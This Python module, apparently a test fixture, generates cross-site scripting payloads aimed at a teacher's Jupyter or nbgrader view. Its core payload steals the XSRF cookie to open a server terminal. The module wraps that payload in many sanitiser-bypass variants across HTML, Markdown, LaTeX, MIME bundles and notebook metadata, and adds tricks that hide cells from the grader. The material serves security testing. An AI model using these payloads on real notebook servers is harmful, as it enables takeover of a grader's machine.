"""What a student could write so that it acts in the teacher's browser."""

import base64
from typing import Any

import nbformat

__all__ = ["HTML", "MARKDOWN", "bundles", "displaying"]

# It opens a terminal of the teacher's Jupyter, writes a file, and leaves a mark.
ACT = (
    "window.PWNED=1;fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':"
    "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]},body:'{}'})"
)
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ACT}</script></svg>'


def _data(text: str, kind: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


HTML = [
    f'<img src=x onerror="{ACT}">',
    f"<img src=x onerror={ACT.replace(' ', '/**/')}>",
    f"<script>{ACT}</script>",
    f"<ScRiPt >{ACT}</sCrIpT >",
    f'<svg onload="{ACT}">',
    f"<svg><script>{ACT}</script></svg>",
    f'<svg><animate onbegin="{ACT}" attributeName=x dur=1s>',
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f'<iframe src="javascript:parent.{ACT}"></iframe>',
    f'<details open ontoggle="{ACT}">x</details>',
    f'<video><source onerror="{ACT}"></video>',
    f'<body onload="{ACT}">',
    f'<input autofocus onfocus="{ACT}">',
    f'<div style="animation-name:x" onanimationstart="{ACT}"></div>',
    f'<object data="{_data(_SVG, "image/svg+xml")}"></object>',
    f'<embed src="{_data(_SVG, "image/svg+xml")}">',
    f'<form action="javascript:{ACT}"><button>Press</button></form>',
    '<form action="/api/terminals" method="post"><button>Press</button></form>',
    f'<a href="javascript:{ACT}">press</a>',
    f'<a href="&#106;avascript:{ACT}">press</a>',
    f'<a href="java\tscript:{ACT}">press</a>',
    f'<a href="{_data(f"<script>{ACT}</script>", "text/html")}">press</a>',
    '<a href="/formgrader?path=/tmp">press</a>',
    '<a data-link="/terminals/1" class="name-shown">press</a>',
    '<base href="http://127.0.0.1:1/">',
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:1/pwned">',
    '<link rel="stylesheet" href="http://127.0.0.1:1/pwned.css">',
    "<style>* { display: none } @import 'http://127.0.0.1:1/pwned.css';</style>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{ACT}">',
    f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    f'<!--><img src=x onerror="{ACT}">-->',
    f'<![CDATA[<img src=x onerror="{ACT}">]]>',
    f'<?xml <img src=x onerror="{ACT}">?>',
    f'<template><img src=x onerror="{ACT}"></template>',
    f'<textarea></textarea><img src=x onerror="{ACT}">',
    f'<p title="`<img src=x onerror={ACT}>`">',
    f'<x onclick="{ACT}" style="position:fixed;inset:0">press</x>',
    '<img src="http://127.0.0.1:1/pwned.png"><img src="/pwned.png" srcset="/pwned2.png 2x">',
    '<div id="test-one" class="nbgrader_cell score"><input class="score" id="essay"></div>',
    '<script type="math/tex">\\href{javascript:window.PWNED=1}{x}</script>',
    '<img/src=x\nonerror\n=\n"window.PWNED=1"\n>',
]
MARKDOWN = [
    *HTML,
    *(f"A word, and `code` {one} after it." for one in HTML[:8]),
    f"> - 1. {HTML[0]}",
    f"| a | b |\n|---|---|\n| {HTML[0]} | x |",
    f"```mermaid\ngraph TD\n{HTML[0]}\n```",
    f"> ```mermaid\n> {HTML[0]}\n> ```",
    f"$$x < {HTML[0]}$$",
    f"$`{HTML[0]}`$",
    f"\\begin{{equation}}{HTML[0]}\\end{{equation}}",
    f"\\begin{{a}}\n\n{HTML[0]}\n\n\\end{{a}}",
    f"``` {HTML[0]}\ncode\n```",
    f"# {HTML[0]}",
    f"{HTML[0]}\n===",
    f"[press](javascript:{ACT.replace('(', '%28').replace(')', '%29')})",
    "[press](<javascript:window.PWNED=1>)",
    "[press](java&#115;cript:window.PWNED=1)",
    "[press](JaVaScRiPt&colon;window.PWNED=1)",
    "[press](\x01javascript:window.PWNED=1)",
    "[press](vbscript:x) [press](file:///etc/passwd)",
    f"[press]({_data(HTML[2], 'text/html')})",
    "[press][a]\n\n[a]: javascript:window.PWNED=1 'title'",
    "[press](/formgrader?path=/tmp) [press](evil.html) [press](//127.0.0.1:1/x)",
    "[press](http://localhost:1/pwned) [press](http://127.1:1/pwned) [p](http://0x7f.1/pwned)",
    "<javascript:window.PWNED=1>",
    "![x](/pwned.png) ![y](http://127.0.0.1:1/pwned.png)",
    f'![x](x.png "\\"><img src=x onerror={ACT}>")',
    f'![\\"><img src=x onerror={ACT}>](attachment:a.png)',
    f"![x]({_data(_SVG, 'image/svg+xml')})",
    "![x](attachment:drawing.svg) ![y](attachment:none.png)",
    "$\\href{javascript:window.PWNED=1}{x}$ $\\require{action}$ $\\class{score}{x}$",
    "# test-one\n\n## essay\n\n### essay-comment\n\n# notebook",
    "essay\n=====\n\ntest-one\n---",
    "[x]: <> (hidden)\n\n<!-- hidden -->",
]


def bundles() -> list[dict[str, Any]]:
    """Return data of outputs, by kind, each of which would act or take the place of a field."""
    texts = [{"text/html": one, "text/plain": "x"} for one in HTML]
    texts += [{"text/markdown": one, "text/plain": "x"} for one in MARKDOWN]
    return [
        *texts,
        {"application/javascript": ACT, "text/plain": "x"},
        {"image/svg+xml": _SVG},
        {"image/png": f'"><img src=x onerror="{ACT}">'},
        {"image/jpeg": "x' onerror='window.PWNED=1"},
        {"text/latex": f"$\\href{{javascript:window.PWNED=1}}{{x}}$ {HTML[0]}"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{HTML[2]}"}},
        {"text/vnd.mermaid": HTML[0]},
        {"application/pdf": "x"},
        {f"text/html{HTML[0]}": HTML[0]},
        {"text/html": [HTML[0], HTML[2]], "text/plain": ["a", "b"]},
    ]


def displaying() -> str:
    """Return code that puts out every bundle, HTML in plain text, and an error with HTML."""
    return (
        "from IPython.display import display\n"
        "import sys\n"
        f"for bundle in {bundles()!r}:\n"
        "    for metadata in ({}, {'text/html': {'isolated': True}}, {'image/png': {'width': "
        "'1 onerror=window.PWNED=1', 'alt': 'x'}, 'filenames': {'image/png': 'x'}}):\n"
        "        try:\n"
        "            display(bundle, raw=True, metadata=metadata)\n"
        "        except Exception as error:\n"
        "            print(error)\n"
        f"print({HTML[0]!r})\n"
        f"print({HTML[0]!r}, file=sys.stderr)\n"
        "print('\\x1b]8;;javascript:window.PWNED=1\\x07press\\x1b]8;;\\x07\\x1b[31m<b>')\n"
    )


def with_metadata(notebook: Any) -> None:
    """Put what acts into every place for metadata, and hide what a teacher should see."""
    for cell in notebook.cells:
        cell.metadata["tags"] = [f'"><img src=x onerror="{ACT}">', "remove-cell"]
        cell.metadata["transient"] = {"remove_source": True}
        cell.metadata["alt"] = f'"><img src=x onerror="{ACT}">'
        cell.metadata["raw_mimetype"] = ""
    notebook.metadata["title"] = f"</title>{HTML[2]}"
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"a": f"</script>{HTML[2]}"}}
    }
    notebook.metadata["kernelspec"] = nbformat.from_dict(
        {"name": "python3", "display_name": HTML[0], "language": "python"}
    )
    notebook.metadata["language_info"] = nbformat.from_dict(
        {"name": "python", "pygments_lexer": HTML[0], "codemirror_mode": {"name": HTML[0]}}
    )
